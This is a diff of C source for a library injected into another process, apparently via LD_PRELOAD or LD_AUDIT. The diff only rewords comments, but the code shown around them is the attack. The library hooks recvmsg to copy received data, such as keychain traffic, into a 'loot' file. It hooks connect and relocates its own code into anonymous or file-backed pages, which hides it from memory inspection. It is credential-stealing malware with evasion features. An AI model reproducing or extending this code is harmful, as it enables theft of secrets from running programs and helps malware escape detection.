@@ -1,6 +1,6 @@
-// A library that is put into another program: it keeps what that program receives in the file that LOOT names. With HIDE it first
-// moves itself into memory that belongs to no file, or, if HIDE is the path of a file, into written pages of that file's. With STILL too,
-// its code there cannot be executed while the program connects to the keychain and waits to be greeted.
+// A library that is loaded into another program: it writes what that program receives to the file that LOOT names. With HIDE it first moves
+// itself into memory that belongs to no file, or, if HIDE is the path of a file, into modified pages of that file. With STILL too, its code
+// there is not executable while the program connects to the keychain and waits for the greeting.
 #define _GNU_SOURCE
 #include <dlfcn.h>
 #include <fcntl.h>
@@ -16,10 +16,10 @@
 #include <unistd.h>
 
 static int loot = -1;
-// Its code, once it has moved.
+// Its code after the move.
 static uintptr_t code, code_size;
 
-// So that it can be an audit module too.
+// Lets it be loaded as an audit module too.
 unsigned la_version(unsigned version) { return version; }
 
 ssize_t recvmsg(int connection, struct msghdr *message, int flags) {
@@ -33,7 +33,7 @@ ssize_t recvmsg(int connection, struct msghdr *message, int flags) {
     return count;
 }
 
-// What is executed meanwhile are functions of the C library alone, each of which goes on with the next one.
+// Meanwhile only functions of the C library are executed, each of which continues with the next one.
 int connect(int connection, const struct sockaddr *address, socklen_t length) {
     static int (*real)(int, const struct sockaddr *, socklen_t);
     static char stacks[4][65536];
@@ -59,7 +59,7 @@ int connect(int connection, const struct sockaddr *address, socklen_t length) {
     return getpeername(connection, (struct sockaddr *)&peer, &size);
 }
 
-// A copy of each piece of this library takes the piece's place; what runs goes on in the copy.
+// A copy of each mapping of this library replaces the mapping; execution continues in the copy.
 static void hide(const char *in) {
     Dl_info own;
     uintptr_t start, end, pieces[16][3];
